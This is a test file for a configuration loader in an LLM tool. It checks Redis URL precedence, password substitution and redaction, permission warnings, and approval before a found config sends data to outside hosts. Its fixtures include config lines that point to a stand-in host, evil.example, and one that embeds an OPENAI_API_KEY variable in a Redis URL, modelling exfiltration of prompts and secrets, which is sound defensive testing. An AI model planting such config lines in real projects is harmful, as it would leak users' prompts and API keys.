/** The section `redis`: which server it names, and that its password stays secret. */
import assert from "node:assert/strict";
import { chmodSync } from "node:fs";
import process from "node:process";
import type { FlexLLMError } from "../../lib/errors.ts";
import { loadConfig } from "../../lib/config/load.ts";
import { redactConfig } from "../../lib/config/redact_config.ts";
import { reachableCache } from "../../lib/config/resolve_cache.ts";
import { type RedisFlags, resolveRedis } from "../../lib/config/resolve_redis.ts";
import { requireApproval } from "../../lib/config/trust.ts";
import { maskRedisUrl } from "../../lib/redis/redis_address.ts";
import { temporaryFolder } from "../support/temporary_folder.ts";

const NAME = "flexllm_config.yaml";

/** Loads `text` as the user's own file, or as one that was found in the current directory. */
function load(text: string, env: Record<string, string> = {}, isFound = false) {
  using folder = temporaryFolder();
  const file = folder.write(NAME, text);
  chmodSync(file, 0o600);
  const home = { FLEXLLM_HOME: folder.file("home"), ...env };
  return loadConfig(home, folder.path, isFound ? undefined : file);
}

function addressOf(text: string, env: Record<string, string> = {}, flags: RedisFlags = {}) {
  return resolveRedis(load(text), env, flags)?.address;
}

Deno.test("a flag takes precedence over the variable, and that over the configuration", () => {
  const text = "redis: redis://one:1000";
  const env = { FLEXLLM_REDIS_URL: "redis://two:2000" };
  assert.equal(addressOf(text)?.shown, "redis://one:1000");
  assert.equal(addressOf(text, env)?.shown, "redis://two:2000");
  assert.equal(addressOf(text, env, { redis: "redis://three" })?.shown, "redis://three:6379");
  assert.equal(addressOf("cache: true"), undefined);
  assert.equal(addressOf("redis:", { FLEXLLM_REDIS_URL: "" }), undefined);
});

Deno.test("the section names the prefix and what happens while the server cannot be used", () => {
  const text = "redis: {url: 'rediss://one', prefix: team, on_store_loss: {rates: stop}}";
  const settings = resolveRedis(load(text), {}, { onStoreLoss: "budget=continue" });
  assert.equal(settings?.address.prefix, "team");
  assert.equal(settings?.address.tls, true);
  assert.deepEqual(settings?.onStoreLoss, { rates: "stop", budget: "continue" });
  for (const onStoreLoss of ["rates=some", "rate=stop"]) {
    assert.throws(
      () => resolveRedis(load(text), {}, { onStoreLoss }),
      (error: FlexLLMError) =>
        /^--on-store-loss: /.test(error.message) && /redis\.on_store_loss/.test(error.hint!),
    );
  }
});

Deno.test("a password can come from a variable, and one that is not set is an error", () => {
  const text = "redis: 'redis://:${SECRET}@one'";
  assert.equal(addressOf(text, { SECRET: "50%/a:b@c#" })?.password, "50%/a:b@c#");
  assert.equal(addressOf("redis: 'redis://${H}:7000'", { H: "[::1]" })?.host, "::1");
  assert.equal(addressOf(text, { SECRET: "sesame" })?.password, "sesame");
  assert.throws(() => addressOf(text), /:1:8: the environment variable SECRET is not set/);
  const cache = "cache: {path: 'redis://:${SECRET}@one'}";
  const config = load(cache);
  const settings = typeof config.value.cache === "object" ? config.value.cache! : {};
  assert.equal(
    reachableCache(config, settings, { SECRET: "sesame" }, undefined).path,
    "redis://:sesame@one",
  );
  assert.throws(() => reachableCache(config, settings, {}, undefined), /SECRET is not set/);
});

Deno.test("passwords are not shown, even those of an invalid URL", () => {
  const secret = "se/sa@me#42";
  for (
    const text of [
      `redis: 'redis://:${secret}@one'`,
      `redis: {url: 'redis://user:${secret}@one'}`,
      `cache: {path: 'rediss://user:${secret}@one'}`,
      `serve: {cache: {path: 'redis://:${secret}@one'}}`,
    ]
  ) {
    const shown = JSON.stringify(redactConfig(load(text).value));
    assert.ok(!/sesame|se\/sa|me#42/.test(shown), shown);
    assert.match(shown, /rediss?:\/\/…@one/);
  }
  assert.equal(maskRedisUrl("redis://one:7000/2"), "redis://one:7000/2");
  assert.throws(
    () => addressOf(`redis: 'redis://:${secret}@one'`),
    (error: Error) => !error.message.includes("me#42"),
  );
});

Deno.test("a password that others can read is warned about", {
  ignore: process.platform === "win32",
}, () => {
  using folder = temporaryFolder();
  const warnings = (text: string) => {
    const file = folder.write(NAME, text);
    chmodSync(file, 0o644);
    return loadConfig({}, folder.path, file).warnings;
  };
  assert.match(warnings("redis: redis://:sesame@one")[0], /contains a password and is readable/);
  assert.match(warnings("cache: {path: redis://u:sesame@one}")[0], /contains a password/);
  assert.deepEqual(warnings("redis: redis://one"), []);
  assert.deepEqual(warnings("redis: 'redis://u:${SECRET}@one'"), []);
});

Deno.test("a file in the current directory names a server outside only with approval", () => {
  const refused = (text: string, env: Record<string, string> = {}) => {
    const config = load(text, env, true);
    return config.unapproved.map(({ variable, host }) => `${variable} to ${host}`);
  };
  const data = "prompts and answers to evil.example";
  assert.deepEqual(refused("redis: rediss://evil.example"), [data]);
  assert.deepEqual(refused("redis: {url: 'redis://evil.example:7000'}"), [`${data}:7000`]);
  assert.deepEqual(refused("cache: {path: 'redis://evil.example'}"), [data]);
  assert.deepEqual(refused("serve: {cache: {path: 'redis://evil.example'}}"), [data]);
  assert.deepEqual(refused("redis: 'redis://:${OPENAI_API_KEY}@127.0.0.1'"), [
    "OPENAI_API_KEY to 127.0.0.1",
  ]);
  assert.deepEqual(refused("redis: 'redis://:${keys.openai}@localhost'"), [
    "keys.openai to localhost",
  ]);
  // The user's own choice, and servers that strangers cannot reach.
  for (
    const url of ["redis://127.0.0.1", "redis://redis:6379", "redis://10.0.0.5", "'${MY_URL}'"]
  ) {
    assert.deepEqual(refused(`redis: ${url}`, { MY_URL: "redis://mine.example" }), [], url);
  }
  const config = load("redis: redis://evil.example", {}, true);
  assert.throws(
    () => resolveRedis(config, {}, {}),
    /prompts and answers would be sent to evil\.example/,
  );
  // What the user names is not the file's.
  assert.equal(resolveRedis(config, {}, { redis: "redis://mine" })?.address.host, "mine");
  const cache = load("cache: {path: 'redis://evil.example'}", {}, true);
  assert.throws(() => requireApproval(cache, ["cache"]), /prompts and answers/);
});
